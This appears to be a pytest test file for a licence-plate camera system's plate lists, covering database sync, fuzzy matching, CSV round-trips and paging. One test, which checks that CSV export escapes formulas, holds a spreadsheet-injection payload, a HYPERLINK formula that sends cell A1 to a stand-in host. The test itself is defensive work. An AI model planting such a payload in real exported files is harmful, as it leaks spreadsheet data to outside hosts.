"""Lists in memory, compared with the database that another process changes."""

import shutil
import tempfile
from collections.abc import Callable
from contextlib import closing
from itertools import combinations, product
from pathlib import Path
from typing import Any

import pytest
import sqlalchemy as sa
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from orchestrator.errors import ParameterError
from plate_cameras.configuration import Camera, Store
from plate_cameras.store.errors import StoreError
from plate_cameras.store.factory import open_store
from plate_cameras.store.finding.pass_query import PassQuery
from plate_cameras.store.lists.list_lookup import ListEntry, ListLookup, LoadedList
from plate_cameras.store.lists.plate_entries import EntryQuery
from plate_cameras.store.lists.plate_lists import PlateLists
from plate_cameras.store.pass_store import PassStore
from plate_cameras.store.scope import EVERYTHING
from plate_cameras.store.tables.schema import METADATA
from tests.fuzzing.profiles import quick
from tests.plate_cameras.store.stored_events import NOW_S, REQUESTER, find_ids, make_event

NAMES, TEXTS = ("residents", "guests"), ("A123BC77", "M456OP199")
Change = Callable[[PassStore], object]


def of_a_list(change: Callable[[PlateLists, str], object], name: str) -> Change:
    """Return a change of a list that does nothing if the list does not exist."""
    return lambda store: name in store.lists.names() and change(store.lists, name)


def create(name: str) -> Change:
    return lambda store: name in store.lists.names() or store.lists.create(name)


def replace_all(name: str, texts: list[str]) -> Change:
    file = "\n".join(["text", *texts])
    return of_a_list(lambda lists, name: lists.import_csv(name, file, replacing=True), name)


def make_again(name: str, texts: list[str]) -> Change:
    """Return a change that deletes a list, and creates it again from a new file."""
    steps = of_a_list(PlateLists.delete, name), create(name), replace_all(name, texts)
    return lambda store: [step(store) for step in steps]


names, texts = st.sampled_from(NAMES), st.sampled_from(TEXTS)
times = (NOW_S - 1, NOW_S, NOW_S + 1)
periods = st.sampled_from(
    [(None, None), *combinations(times, 2), *product([None], times), *product(times, [None])]
)
entries = st.builds(
    lambda text, note, period, edits: ListEntry(text, note, *period, edits),
    texts,
    st.sampled_from(["", "flat 4"]),
    periods,
    st.integers(0, 2),
)
of_lists = (
    st.just(PlateLists.delete)
    | entries.map(lambda entry: lambda lists, name: lists.put(name, [entry]))
    | texts.map(lambda text: lambda lists, name: lists.remove(name, text))
)
changes = (
    st.builds(create, names)
    | st.builds(of_a_list, of_lists, names)
    | st.builds(make_again, names, st.lists(texts, min_size=1, max_size=2))
    | st.builds(replace_all, names, st.lists(texts, max_size=2))
    | st.tuples(names, st.sampled_from(["", "for the gate"])).map(
        lambda arguments: lambda store: store.lists.save(*arguments, None)
    )
    | texts.map(lambda text: lambda store: store.delete_plate(text, REQUESTER, entries=True))
)


def open_copy(template: Path, folder: Path) -> PassStore:
    shutil.copy(template, folder / "passes.db")
    store = open_store(Store(), folder, clock=lambda: NOW_S)
    store.configure([Camera("gate", "rtsp://gate", lists=NAMES)])
    return store


def stored_entries(store: PassStore) -> dict[str, dict[str, ListEntry]]:
    lists = {name: store.lists.entries(name, EVERYTHING) for name in store.lists.names()}
    return {name: {entry.text: entry for entry in entries} for name, entries in lists.items()}


@settings(quick, max_examples=20, suppress_health_check=[HealthCheck.too_slow])
@given(steps=st.lists(st.lists(changes, max_size=4), max_size=5))
def test_after_any_changes_the_lists_in_memory_are_those_of_the_database(
    sqlite_template: Path, steps: list[list[Change]]
) -> None:
    with (
        tempfile.TemporaryDirectory() as folder,
        closing(open_copy(sqlite_template, Path(folder))) as store,
    ):
        lookup = ListLookup()
        for step_changes in steps:
            for change in step_changes:
                change(store)
            store.refresh(lookup)
            entries = {loaded_list.name: loaded_list.exact for loaded_list in lookup.named(NAMES)}
            assert entries == stored_entries(store)


def test_a_list_of_a_restored_backup_is_read_again(
    tmp_path: Path, opening: Callable[..., PassStore]
) -> None:
    """The backup has the same list, and the same number of changes as the lost database."""
    with closing(open_store(Store(), tmp_path)) as store:
        store.lists.create("residents")
    backup = tmp_path / "backup"
    backup.mkdir()
    for file in tmp_path.glob("passes.db*"):
        shutil.copy(file, backup)

    lookup = ListLookup()
    for folder, text in ((tmp_path, "A123BC77"), (backup, "M456OP199")):
        store = opening("", folder)
        store.lists.put("residents", [ListEntry(text)])
        store.refresh(lookup)
    (loaded_list,) = lookup.named(["residents"])
    assert [*loaded_list.exact] == ["M456OP199"]


def test_an_error_leaves_the_lists_as_they_were(store: PassStore) -> None:
    lookup = ListLookup()
    store.lists.create("residents")
    store.refresh(lookup)
    before = lookup.revisions
    with (
        closing(sa.create_engine("sqlite://").connect()) as connection,
        pytest.raises(sa.exc.OperationalError),
    ):
        lookup.refresh(connection)
    assert lookup.revisions == before


SAME, NEAR = ListEntry("A123BC77", edits=1), ListEntry("A128BC77", edits=1)
EXPIRED = ListEntry("A123BC77", valid_until_s=NOW_S)
LATER = ListEntry("A128BC77", edits=1, valid_from_s=NOW_S + 1)
FAR = ListEntry("A128BM77", edits=2)
AS_NEAR = ListEntry("A124BC77", edits=1)


@pytest.mark.parametrize(
    ("entries", "text", "hit"),
    [
        pytest.param([], "A123BC77", None, id="empty"),
        pytest.param([SAME], "A123BC77", ("A123BC77", 0), id="same"),
        pytest.param([SAME], "A128BC77", ("A123BC77", 1), id="one-edit"),
        pytest.param([SAME], "A128BM77", None, id="two-edits"),
        pytest.param([FAR, NEAR], "A123BC77", ("A128BC77", 1), id="the-nearest"),
        pytest.param([NEAR, AS_NEAR], "A123BC77", ("A128BC77", 1), id="the-first-of-two-as-near"),
        pytest.param([EXPIRED, NEAR], "A123BC77", ("A128BC77", 1), id="the-same-is-not-valid"),
        pytest.param([LATER], "A123BC77", None, id="the-similar-one-is-not-valid-yet"),
    ],
)
def test_a_text_matches_the_nearest_valid_entry(
    entries: list[ListEntry], text: str, hit: tuple[str, int] | None
) -> None:
    exact = {entry.text: entry for entry in entries}
    fuzzy = tuple(entry for entry in entries if entry.edits)
    best_hit = LoadedList(1, "residents", 1, exact, fuzzy).match(text, NOW_S)
    assert (best_hit and (best_hit.entry.text, best_hit.edits)) == hit


def test_no_table_of_sqlite_gives_a_number_twice(opening: Callable[..., PassStore]) -> None:
    with opening().writer.database.reading() as connection:
        statements = dict(connection.exec_driver_sql("SELECT name, sql FROM sqlite_schema").all())
    by_database = {
        table.name
        for table in METADATA.sorted_tables
        if [column.name for column in table.primary_key] in (["number"], ["id"])
        and table.primary_key.columns[0].type.python_type is int
    }
    by_database -= {"picture_rounds"}  # it has one row
    assert {"passes", "lists", "deliveries", "searches", "gate_openings"} <= by_database
    assert [name for name in by_database if "AUTOINCREMENT" not in statements[name]] == []


CSV = """text,note,valid_from,valid_until,edits
A123BC77,flat 4,2025-01-01T00:00:00.000Z,,1
B777BB77,,,,0
"""


@pytest.fixture
def listed_store(store: PassStore) -> PassStore:
    """Return a store with an empty list, which the camera `gate` looks up."""
    store.lists.create("residents")
    store.configure([Camera("gate", "rtsp://gate", lists=("residents",))])
    return store


@pytest.mark.parametrize(
    ("entry", "is_hit"),
    [
        pytest.param(ListEntry("A123BC77", valid_until_s=NOW_S), True, id="still valid"),
        pytest.param(ListEntry("B128BC77", edits=2), True, id="two edits"),
        pytest.param(ListEntry("A123BC77", valid_until_s=NOW_S - 60), False, id="no longer valid"),
    ],
)
def test_a_pass_hits_an_entry_that_is_there_when_it_is_written(
    listed_store: PassStore, entry: ListEntry, is_hit: bool
) -> None:
    listed_store.write([make_event("before")], [])
    listed_store.lists.put("residents", [entry])
    listed_store.write([make_event("a")], [])
    listed_store.lists.remove("residents", entry.text)
    listed_store.write([make_event("after")], [])
    assert find_ids(listed_store, PassQuery(list_name="residents")) == ["a"] * is_hit


def test_a_csv_file_returns_as_it_came_and_a_note_is_no_formula(listed_store: PassStore) -> None:
    assert listed_store.lists.import_csv("residents", CSV) == 2
    assert "".join(listed_store.lists.export_csv("residents", REQUESTER)) == CSV
    entry = ListEntry("A123BC77", '=HYPERLINK("http://site/?"&A1)')
    listed_store.lists.put("residents", [entry])
    file = "".join(listed_store.lists.export_csv("residents", REQUESTER))
    assert file.splitlines()[1].startswith("A123BC77,\"'=HYPERLINK")
    listed_store.lists.import_csv("residents", file, replacing=True)
    assert listed_store.lists.entries("residents", EVERYTHING)[0] == entry


def test_a_list_is_created_once(listed_store: PassStore) -> None:
    with pytest.raises(StoreError, match="already"):
        listed_store.lists.create("residents")
    assert listed_store.lists.names() == ["residents"]


A1, A2, B1, B2 = "A000177", "A000277", "B000177", "B000277"


@pytest.mark.parametrize(
    ("query", "texts", "cursor"),
    [
        pytest.param({"limit": 2}, [A1, A2], A2, id="first page"),
        pytest.param({"limit": 2, "cursor": A2}, [B1, B2], "", id="last page"),
        pytest.param({"cursor": B2}, [], "", id="after the last"),
        pytest.param({"part": "b", "limit": 1}, [B1], B1, id="part of the text"),
        pytest.param({"part": "ДОМ"}, [A2], "", id="part of a note"),
        pytest.param({"part": "b", "cursor": B1}, [B2], "", id="last page of a part"),
    ],
)
def test_entries_come_in_pages(
    store: PassStore, query: dict[str, Any], texts: list[str], cursor: str
) -> None:
    store.lists.create("residents")
    entries = [ListEntry(A1), ListEntry(A2, "дом 5"), ListEntry(B1), ListEntry(B2)]
    store.lists.put("residents", entries)
    page = store.lists.page("residents", EntryQuery(**query), EVERYTHING)
    assert ([entry.text for entry in page.entries], page.cursor) == (texts, cursor)


@pytest.mark.parametrize(
    ("ask", "message"),
    [
        pytest.param(
            lambda lists: lists.save("n" * 201, "", None), "name: .* 200 .*201", id="name"
        ),
        pytest.param(
            lambda lists: lists.save("n", "x" * 2001, None), "note: .*2000 .*2001", id="note"
        ),
        pytest.param(
            lambda _: EntryQuery(limit=1001), "limit: wanted 1 to 1000, got 1001", id="page"
        ),
    ],
)
def test_texts_and_pages_have_upper_numbers(
    store: PassStore, ask: Callable[[Any], object], message: str
) -> None:
    with pytest.raises(ParameterError, match=message):
        ask(store.lists)
